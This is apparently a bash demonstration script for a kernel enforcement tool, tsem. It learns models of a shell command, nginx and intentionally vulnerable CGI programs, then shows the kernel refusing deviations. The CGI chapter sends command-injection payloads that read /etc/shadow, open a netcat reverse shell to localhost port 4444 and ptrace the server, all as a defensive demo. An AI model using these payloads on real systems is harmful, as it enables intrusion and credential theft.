#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
#
# story.sh PATH_TO_TSEM: the story itself, on a kernel that can enforce; run by run.sh.

set -u
TSEM=${1:?usage: story.sh PATH_TO_TSEM}
workloads=tests/workloads
bold='' grey='' red='' plain=''
if [ -n "${TSEM_STORY_COLOUR-}" ]; then
	bold=$'\e[1m' grey=$'\e[36m' red=$'\e[31m' plain=$'\e[0m'
fi
dir=$(mktemp -d /tmp/story.XXXXXX) && chmod 755 "$dir" || exit 1
mkdir "$dir/bin" && ln -s "$TSEM" "$dir/bin/tsem"
PATH=$dir/bin:$PATH
server='' listener='' loaded=''
# Nothing of the reader's own.
export CURL_HOME=$dir no_proxy='*'

clean_up() {
	if [ -n "$server" ]; then
		kill "$server" 2>/dev/null
		wait "$server"
	fi
	[ -z "$listener" ] || kill "$listener" 2>/dev/null
	[ -z "$loaded" ] || tsem unload >/dev/null 2>&1
	rm -rf "$dir" /run/tsem/sessions/story-*
}
trap clean_up EXIT
trap 'exit 130' INT TERM

chapter() { printf '\n%s== %s (%d s)%s\n' "$bold" "$1" "$SECONDS" "$plain"; }
say() { printf '\n%s# %s%s\n' "$grey" "$1" "$plain"; }

fail() { # fail TEXT: the end
	printf '%snot as told: %s%s\n' "$red" "$1" "$plain"
	exit 1
}

# show STATUS PATTERN COMMAND: shows the command, runs it, shows what it says, and
# compares status and text (! before the pattern: what must not be there).
show() {
	local status text

	printf '%s$ %s%s\n' "$bold" "$3" "$plain"
	(eval "$3") </dev/null 2>&1 | tee "$dir/said"
	status=${PIPESTATUS[0]}
	text=$(<"$dir/said")
	[ "$status" = "$1" ] || fail "status $status, and it should have been $1"
	# shellcheck disable=SC2053
	case $2 in
	'!'*) [[ $text != ${2#!} ]] || fail "this should not be there: ${2#!}" ;;
	*) [[ $text == $2 ]] || fail "this should be there: $2" ;;
	esac
}

tell_shell() {
	chapter '1 of 3: a shell command'
	say 'tsem learns the command: each event becomes one number of the model.'
	show 0 '*root:*new coefficients*' "tsem learn -o $dir/grep.model --name story-learn -- sh -c 'grep root /etc/passwd'"
	say 'Enforced: the same command works.'
	show 0 'root:*' "tsem run --model $dir/grep.model --enforce --name story-same -- sh -c 'grep root /etc/passwd'"
	say 'The kernel refuses another program before it runs, and tsem gives the reason.'
	show 126 '*/usr/bin/cat*: refused*' "tsem run --model $dir/grep.model --enforce --name story-cat -- sh -c 'cat /etc/passwd'"
	say 'The shell may run, but it may not read the file itself: only grep may.'
	show 2 '*Operation not permitted*' "tsem run -q --model $dir/grep.model --enforce --name story-loop -- sh -c 'while read l; do :; done </etc/passwd'"
	show 3 '*/usr/bin/dash*opens /etc/passwd*: refused*' 'tsem why story-loop'
	say 'The shell cannot even make a copy of a program under another name.'
	show 127 '!*root:*' "cd $dir; tsem run -q --model $dir/grep.model --enforce --name story-copy -- sh -c 'cp /bin/cat x; ./x /etc/passwd'"
	[ ! -e "$dir/x" ] || fail 'the copy was made'
}

tell_nginx() {
	chapter '2 of 3: nginx'
	say 'A test script starts nginx, fetches pages with curl, checks them, and stops nginx. Learned once:'
	"$workloads/nginx-site.sh" "$dir/nginx"
	show 0 '*its checksum*model*written*' "tsem learn -o $dir/nginx.model --name story-learn-nginx -- $workloads/nginx-test.sh $dir/nginx"
	say 'Enforced: every page is right, and the kernel refuses nothing.'
	show 0 '!*refused*' "tsem run --model $dir/nginx.model --enforce --name story-nginx -- $workloads/nginx-test.sh $dir/nginx"
	show 0 '*o violation*' 'tsem why story-nginx'
}

serve() { # the server as a workload, in the background
	local command="tsem run -q --model $dir/cgi.model --enforce --on-violation deny --name story-cgi -- $workloads/cgi-test.sh $dir/cgi serve"

	printf '%s$ %s &%s\n' "$bold" "$command" "$plain"
	$command </dev/null >"$dir/serve.log" 2>&1 &
	server=$!
}

url=http://127.0.0.1:8081/cgi-bin

tell_cgi() {
	local target

	chapter '3 of 3: a web server with holes'
	"$workloads/cgi-site.sh" "$dir/cgi"
	say 'These CGI programs pass their input to a shell. tsem learns their intended use.'
	show 0 '*note: hello, world*model*written*' "tsem learn -o $dir/cgi.model --name story-learn-cgi -- $workloads/cgi-test.sh $dir/cgi"
	say 'Enforced with --on-violation deny: the kernel refuses only events outside the model, and the process goes on.'
	serve
	say 'A visitor reads a note, as intended.'
	show 0 'hello, world' "curl -s --retry 40 --retry-connrefused --retry-delay 1 -d hello $url/note"
	say 'An attacker appends a command to the name. cat may run here, but may not open this file:'
	show 0 '*shadow: Operation not permitted*' "curl -s -d 'hello; cat /etc/shadow' $url/note"
	say 'A reverse shell to a listener on port 4444: nc may run here, but may not connect there.'
	nc -l -v -n 127.0.0.1 4444 </dev/null >/dev/null 2>"$dir/calls" &
	listener=$!
	show 0 '*port 4444*Operation not permitted*' "curl -s -d '8081; nc -v 127.0.0.1 4444 | sh; true' $url/port"
	kill "$listener" 2>/dev/null
	wait "$listener" 2>/dev/null
	listener=''
	grep -q Listening "$dir/calls" || fail 'nobody was listening'
	! grep -q received "$dir/calls" || fail 'somebody called'
	say 'Tracing the web server with ptrace: the tool may run, but may not trace.'
	target=$(server_pid)
	show 0 'errno 1: Operation not permitted' "curl -s -d $target $url/trace"
	say 'The next visitor notices nothing.'
	show 0 'buy milk' "curl -s -d shopping $url/note"
	say 'What happened?'
	show 3 '*/usr/bin/cat*/etc/shadow*: refused*/usr/bin/nc*4444: refused*ptracer*traces*: refused*' 'tsem why story-cgi'
	kill "$server"
	wait "$server" || fail "the server ended with status $?"
	server=''
}

server_pid() { # of the web server: the process that listens, not those that it forks
	local each found=''

	for each in $(grep -la '^/usr/bin/busybox.httpd' /proc/[0-9]*/cmdline 2>/dev/null); do
		each=${each#/proc/}
		each=${each%/cmdline}
		[ "${found:-$each}" -lt "$each" ] || found=$each
	done
	echo "${found:?the web server is gone}"
}

say 'Load the kernel side once (otherwise each tsem run loads it, and takes longer).'
show 0 '*loaded*' 'tsem load'
[[ $(<"$dir/said") == *already* ]] || loaded=1
tell_shell
tell_nginx
tell_cgi
printf '\n%s== As told, in %d s%s\n' "$bold" "$SECONDS" "$plain"
